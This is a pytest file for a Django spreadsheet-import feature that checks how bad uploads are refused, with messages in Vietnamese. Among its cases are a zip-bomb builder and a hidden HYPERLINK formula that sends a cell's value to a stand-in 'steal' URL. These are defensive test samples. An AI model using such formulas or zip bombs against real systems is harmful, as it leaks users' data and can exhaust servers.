"""Hostile and broken uploads: a clear message, nothing stored or written, never a 500."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from models_learning.models import Household, Registration
from tests.imports.conftest import (
    filled,
    household_row,
    plain_xlsx,
    save,
    template_bytes,
    upload,
)
from transfers.models import ImportBatch, ImportStatus

pytestmark = pytest.mark.django_db


def form_error(response):
    assert response.status_code == 200
    assert not ImportBatch.objects.exists()
    return " ".join(response.context["form"].errors["file"])


def refused_file(client, response):
    """The batch page of a file refused as a whole."""
    assert response.status_code == 302
    batch = ImportBatch.objects.get()
    assert batch.status == ImportStatus.REFUSED
    assert not Household.objects.exists()
    page = client.get(response["Location"])
    assert page.status_code == 200
    assert 'data-testid="refused"' in page.text
    return " ".join(p["message"] for p in batch.problems)


@pytest.fixture
def signed_in(client, officer, villages):
    client.force_login(officer)
    return client


def post(client, tree, data, kind="households", name="danh-sach.xlsx"):
    return upload(client, kind, tree["commune"], data, name=name)


def good_file(tree, villages, rows=1):
    return filled(
        "households",
        tree["commune"],
        [household_row(villages[i % 3], name=f"Lò Văn {i}") for i in range(rows)],
    )


def test_an_empty_file(signed_in, tree):
    assert "Tệp trống" in form_error(post(signed_in, tree, b""))


@pytest.mark.parametrize(
    "content",
    [
        "Họ tên chủ hộ,Năm sinh\nLò Văn Piếng,1975\n".encode(),  # a CSV renamed .xlsx
        b"%PDF-1.4 not a sheet",
        b"PK\x03\x04 truncated zip",
    ],
)
def test_a_file_that_is_not_an_xlsx_whatever_its_name(signed_in, tree, content):
    assert "không phải là sổ tính Excel (.xlsx)" in form_error(post(signed_in, tree, content))


def test_an_old_xls_file(signed_in, tree):
    xls = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
    assert ".xls" in form_error(post(signed_in, tree, xls, name="danh-sach.xls"))


def test_a_macro_workbook(signed_in, tree, villages):
    data = good_file(tree, villages)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    types = types.replace("spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml")
    data = rezip(data, {"[Content_Types].xml": types.encode()})
    assert ".xlsm" in form_error(post(signed_in, tree, data))


def rezip(data, replace=None, add=None):
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return output.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_opened(signed_in, tree, villages):
    bomb = rezip(good_file(tree, villages), add={"xl/media/pad.bin": b"\0" * (50 * 1024 * 1024)})
    assert len(bomb) < 200_000
    assert "zip bomb" in form_error(post(signed_in, tree, bomb))


def test_a_file_over_the_size_cap(signed_in, tree, villages, settings):
    settings.IMPORT_MAX_BYTES = 5_000
    assert "lớn nhất được nhận" in form_error(post(signed_in, tree, good_file(tree, villages)))


def test_a_file_over_the_row_cap_is_refused_whole(signed_in, tree, villages, settings):
    settings.IMPORT_MAX_ROWS = 5
    message = refused_file(signed_in, post(signed_in, tree, good_file(tree, villages, rows=6)))
    assert "hơn 5 dòng dữ liệu" in message


def test_a_damaged_workbook(signed_in, tree, villages):
    data = rezip(good_file(tree, villages), {"xl/workbook.xml": b"<workbook><sheets><sheet"})
    message = refused_file(signed_in, post(signed_in, tree, data))
    assert "Không đọc được sổ tính" in message


def test_the_template_of_another_kind(signed_in, tree, criteria_sets):
    data = filled("clans", tree["commune"], [{"surname": "Lò", "year": 2026}])
    message = refused_file(signed_in, post(signed_in, tree, data))
    assert "Tệp này được lập cho “Dòng họ học tập”, không phải cho “Gia đình học tập”" in message


def test_an_empty_template(signed_in, tree):
    message = refused_file(
        signed_in, post(signed_in, tree, template_bytes("households", tree["commune"]))
    )
    assert "có tên cột nhưng không có dòng dữ liệu" in message


def test_a_sheet_without_the_templates_headers(signed_in, tree):
    data = plain_xlsx([["Tên", "Tuổi"], ["Lò Văn Piếng", 50]])
    message = refused_file(signed_in, post(signed_in, tree, data))
    assert "Không tìm thấy dòng tên cột" in message


def test_renamed_headers_are_named_in_the_refusal(signed_in, tree, villages):
    book = load_workbook(io.BytesIO(good_file(tree, villages)))
    book.worksheets[0]["A1"] = "Tên chủ hộ"
    message = refused_file(signed_in, post(signed_in, tree, save(book)))
    assert "Cột lạ “Tên chủ hộ”" in message
    assert "Thiếu cột “Họ tên chủ hộ”" in message


def test_moved_columns_and_a_header_row_further_down_are_read(signed_in, tree, villages):
    headers = [
        "Năm đăng ký", "Thôn, bản", "Họ tên chủ hộ", "Năm sinh chủ hộ",
        "Điện thoại", "Địa chỉ", "Trạng thái", "Xã, phường",
    ]  # fmt: skip
    data = plain_xlsx(
        [
            ["DANH SÁCH HỘ ĐĂNG KÝ GIA ĐÌNH HỌC TẬP"],
            [],
            headers,
            [2026, villages[0].name, "Lò Văn Piếng", 1975, None, None, None, None],
        ]
    )
    response = post(signed_in, tree, data)
    batch = ImportBatch.objects.get()
    assert response.status_code == 302
    assert batch.status == ImportStatus.READY, batch.problems
    assert batch.counts["new"] == 1


def test_formulas_are_read_as_their_saved_values_never_run(signed_in, tree, villages):
    book = load_workbook(io.BytesIO(good_file(tree, villages)))
    # Written by a program that saves no computed value: the cell has no value to read.
    book.worksheets[0]["A2"] = '=HYPERLINK("http://example.com/steal?x="&B2,"Lò Văn Piếng")'
    response = post(signed_in, tree, save(book))
    assert response.status_code == 302
    batch = ImportBatch.objects.get()
    assert batch.counts["invalid"] == 1
    assert batch.problems[0]["column"] == "Họ tên chủ hộ"
    assert not Registration.objects.exists()
